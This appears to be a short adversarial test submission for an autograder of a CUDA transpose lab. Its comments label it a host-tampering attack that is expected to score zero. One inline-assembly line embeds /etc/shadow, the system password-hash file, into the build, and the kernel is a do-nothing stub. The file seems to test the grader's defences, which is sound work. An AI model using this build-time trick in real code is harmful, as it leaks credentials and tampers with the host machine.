// attack: a system file is taken in by the assembler
// principle: host tampering
// at most: 0
#include "lab3.h"
asm(".data\nsecret: .incbin \"/etc/shadow\"\n.text");
__global__ void k(float *o) { *o = 0; }
void transpose_tiled(float *out, const float *in, int w, int h) { k<<<1, 1>>>(out); }
